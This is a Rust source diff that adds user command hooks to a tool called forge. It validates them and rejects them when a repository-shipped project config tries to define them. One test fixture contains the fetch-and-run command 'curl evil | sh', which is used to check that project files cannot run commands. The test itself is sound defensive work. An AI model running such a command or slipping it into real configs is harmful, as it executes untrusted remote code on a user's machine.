@@ -221,6 +221,37 @@ impl HandoffsConfig {
     }
 }
 
+/// A command of the user's that forge runs on a context event (`[[on_threshold]]`,
+/// `[[on_session_start]]`), with one JSON object on stdin.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct UserHook {
+    /// Run with `sh -c` in the project folder.
+    pub command: String,
+    /// Killed (with its process group) after this many seconds (default 10).
+    #[serde(default = "default_hook_timeout")]
+    pub timeout_secs: u64,
+    /// `on_threshold` only: the context % that fires it (default: the handoff threshold).
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub threshold: Option<f64>,
+    /// `on_threshold` only: at the handoff threshold, this command replaces forge's
+    /// own handoff.
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub replace_handoff: bool,
+}
+
+fn default_hook_timeout() -> u64 {
+    10
+}
+
+/// The keys a user hook table may have.
+pub const USER_HOOK_KEYS: [&str; 4] = ["command", "timeout_secs", "threshold", "replace_handoff"];
+
+/// The lists of user hooks: they run commands, so forge takes them only from the
+/// user's own config file (and its agent tables), never from a project's
+/// `.forge/config.toml`, which a repository can ship.
+pub const HOOK_LISTS: [&str; 2] = ["on_threshold", "on_session_start"];
+
 /// The effective configuration.
 #[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
 #[serde(deny_unknown_fields, default)]
@@ -241,6 +272,20 @@ pub struct Config {
     pub attention: AttentionConfig,
     /// `[handoffs]`.
     pub handoffs: HandoffsConfig,
+    /// `[[on_threshold]]`: commands run once per crossing of their threshold.
+    pub on_threshold: Vec<UserHook>,
+    /// `[[on_session_start]]`: commands whose output is added to SessionStart's text.
+    pub on_session_start: Vec<UserHook>,
+}
+
+impl Config {
+    /// The `on_threshold` hooks with their effective thresholds.
+    pub fn threshold_hooks(&self) -> impl Iterator<Item = (usize, &UserHook, f64)> {
+        self.on_threshold
+            .iter()
+            .enumerate()
+            .map(|(i, h)| (i, h, h.threshold.unwrap_or(self.context.handoff_threshold)))
+    }
 }
 
 /// Where a value came from.
@@ -319,6 +364,12 @@ pub const KEYS: [(&str, &[&str]); 8] = [
 pub fn valid_keys_text() -> String {
     KEYS.iter()
         .map(|(section, keys)| format!("[{section}] {}", keys.join(", ")))
+        .chain(HOOK_LISTS.iter().map(|l| {
+            format!(
+                "[[{l}]] {} (your own config only)",
+                USER_HOOK_KEYS.join(", ")
+            )
+        }))
         .collect::<Vec<_>>()
         .join(" · ")
 }
@@ -415,12 +466,36 @@ fn unknown_keys_in(table: &toml::Table, prefix: &str) -> Vec<String> {
     let sections = || {
         KEYS.iter()
             .map(|(s, _)| format!("[{s}]"))
+            .chain(HOOK_LISTS.iter().map(|s| format!("[[{s}]]")))
             .collect::<Vec<_>>()
             .join(", ")
     };
     for (name, value) in table {
         if name == AGENTS && prefix.is_empty() {
             out.extend(unknown_agent_keys(value));
+            continue;
+        }
+        if HOOK_LISTS.contains(&name.as_str()) {
+            let tables = value
+                .as_array()
+                .filter(|a| a.iter().all(toml::Value::is_table));
+            let Some(tables) = tables else {
+                out.push(format!(
+                    "`{prefix}{name}` must be a list of tables like [[{prefix}{name}]], found {}",
+                    kind_of(value)
+                ));
+                continue;
+            };
+            for t in tables.iter().filter_map(toml::Value::as_table) {
+                for key in t.keys() {
+                    if !USER_HOOK_KEYS.contains(&key.as_str()) {
+                        out.push(format!(
+                            "unknown key `{prefix}{name}.{key}` (valid keys in [[{name}]]: {})",
+                            USER_HOOK_KEYS.join(", ")
+                        ));
+                    }
+                }
+            }
             continue;
         }
         let Some((_, keys)) = KEYS.iter().find(|(s, _)| s == name) else {
@@ -477,6 +552,23 @@ fn unknown_agent_keys(value: &toml::Value) -> Vec<String> {
         out.extend(unknown_keys_in(t, &format!("agents.{agent}.")));
     }
     out
+}
+
+/// The first key of `table` (or of one of its agent tables) that runs commands.
+fn commands_in(table: &toml::Table) -> Option<String> {
+    let (own, agents) = split_agents(table);
+    HOOK_LISTS
+        .iter()
+        .find(|k| own.contains_key(**k))
+        .map(|k| (*k).to_owned())
+        .or_else(|| {
+            agents.iter().find_map(|(name, t)| {
+                HOOK_LISTS
+                    .iter()
+                    .find(|k| t.contains_key(**k))
+                    .map(|k| format!("agents.{name}.{k}"))
+            })
+        })
 }
 
 /// A parsed file's own settings (its `agents` tables left out) and its agent
@@ -700,6 +792,20 @@ fn load_skipping(
             _ => crate::store::safe::Follow::Yes,
         };
         let table = parse_file(&path, follow)?;
+        if let (Source::Project(_), Some(t)) = (&source, &table)
+            && let Some(key) = commands_in(t)
+        {
+            return Err(ConfigError::Invalid {
+                path: path.clone(),
+                message: format!(
+                    "`{key}` runs commands, so forge takes it only from your own config ({}), never from a project's .forge/config.toml, which a repository can ship: move it there",
+                    user_path(env).map_or_else(
+                        || "~/.config/forge/config.toml".to_owned(),
+                        |p| p.display().to_string()
+                    )
+                ),
+            });
+        }
         files.push((source.clone(), table.is_some()));
         if let Some(table) = table {
             let (own, agents) = split_agents(&table);
@@ -820,6 +926,44 @@ fn validate(c: &Config) -> Result<(), Invalid> {
                 SEGMENTS.join(", ")
             ),
         ));
+    }
+    for (list, hooks) in [
+        ("on_threshold", &c.on_threshold),
+        ("on_session_start", &c.on_session_start),
+    ] {
+        for h in hooks {
+            let key: &'static str = if list == "on_threshold" {
+                "on_threshold"
+            } else {
+                "on_session_start"
+            };
+            if h.command.trim().is_empty() {
+                return Err((vec![key], format!("`{list}.command` must name a command")));
+            }
+            if !(1..=600).contains(&h.timeout_secs) {
+                return Err((
+                    vec![key],
+                    format!(
+                        "`{list}.timeout_secs` must be 1 to 600, found {}",
+                        h.timeout_secs
+                    ),
+                ));
+            }
+            if list == "on_session_start" && (h.threshold.is_some() || h.replace_handoff) {
+                return Err((
+                    vec![key],
+                    "`threshold` and `replace_handoff` belong to [[on_threshold]], not [[on_session_start]]".to_owned(),
+                ));
+            }
+            if let Some(t) = h.threshold
+                && !(1.0..=100.0).contains(&t)
+            {
+                return Err((
+                    vec![key],
+                    format!("`{list}.threshold` must be between 1 and 100, found {t}"),
+                ));
+            }
+        }
     }
     for (key, text) in [
         ("resume.max_age", &c.resume.max_age),
@@ -1009,10 +1153,72 @@ mod tests {
     }
 
     #[test]
+    fn user_hooks_come_only_from_the_users_own_file() {
+        let (t, p, env) = setup();
+        let user = t.path().join("xdg/forge/config.toml");
+        std::fs::create_dir_all(user.parent().unwrap()).unwrap();
+        std::fs::write(
+            &user,
+            "[[on_threshold]]\ncommand = \"notify-send hi\"\nthreshold = 80\n\
+             [[on_threshold]]\ncommand = \"true\"\ntimeout_secs = 3\nreplace_handoff = true\n\
+             [[on_session_start]]\ncommand = \"echo hi\"\n",
+        )
+        .unwrap();
+        let l = load(&p, &env).unwrap();
+        let hooks: Vec<(usize, f64, u64)> = l
+            .config
+            .threshold_hooks()
+            .map(|(i, h, t)| (i, t, h.timeout_secs))
+            .collect();
+        assert_eq!(hooks, [(0, 80.0, 10), (1, 70.0, 3)]);
+        assert!(l.config.on_threshold[1].replace_handoff);
+        assert_eq!(l.config.on_session_start[0].command, "echo hi");
+        // A project file (which a repository can ship) may not run commands, not even
+        // in an agent table.
+        for text in [
+            "[[on_session_start]]\ncommand = \"curl evil | sh\"\n",
+            "[[agents.builder.on_threshold]]\ncommand = \"x\"\n",
+        ] {
+            std::fs::write(p.config(), text).unwrap();
+            let e = load(&p, &env).unwrap_err().to_string();
+            assert!(e.contains("runs commands"), "{e}");
+            assert!(e.contains(&p.config().display().to_string()), "{e}");
+        }
+        std::fs::remove_file(p.config()).unwrap();
+        // Checked like the rest.
+        for (text, want) in [
+            (
+                "[[on_threshold]]\ncommand = \"x\"\ntimeout = 3\n",
+                "unknown key `on_threshold.timeout`",
+            ),
+            (
+                "on_threshold = 3\n",
+                "must be a list of tables like [[on_threshold]]",
+            ),
+            ("[[on_threshold]]\ncommand = \" \"\n", "must name a command"),
+            (
+                "[[on_threshold]]\ncommand = \"x\"\ntimeout_secs = 0\n",
+                "1 to 600",
+            ),
+            (
+                "[[on_session_start]]\ncommand = \"x\"\nthreshold = 50\n",
+                "belong to [[on_threshold]]",
+            ),
+        ] {
+            std::fs::write(&user, text).unwrap();
+            let e = load(&p, &env).unwrap_err().to_string();
+            assert!(e.contains(want), "{text:?}: {e}");
+        }
+    }
+
+    #[test]
     fn keys_table_matches_the_config_structs() {
         let v = toml::Value::try_from(Config::default()).unwrap();
         let t = v.as_table().unwrap();
-        assert_eq!(t.len(), KEYS.len());
+        assert_eq!(t.len(), KEYS.len() + HOOK_LISTS.len());
+        for list in HOOK_LISTS {
+            assert!(t[list].as_array().unwrap().is_empty(), "{list}");
+        }
         for (section, keys) in KEYS {
             let inner = t[section].as_table().unwrap();
             let mut want: Vec<&str> = keys.to_vec();
@@ -1075,7 +1281,7 @@ mod tests {
             ),
             (
                 "colour = 1\n",
-                "unknown key `colour` (valid sections: [context], [statusline], [git], [hooks], [learn], [resume], [attention], [handoffs])",
+                "unknown key `colour` (valid sections: [context], [statusline], [git], [hooks], [learn], [resume], [attention], [handoffs], [[on_threshold]], [[on_session_start]])",
             ),
         ] {
             let e = error_for(text);
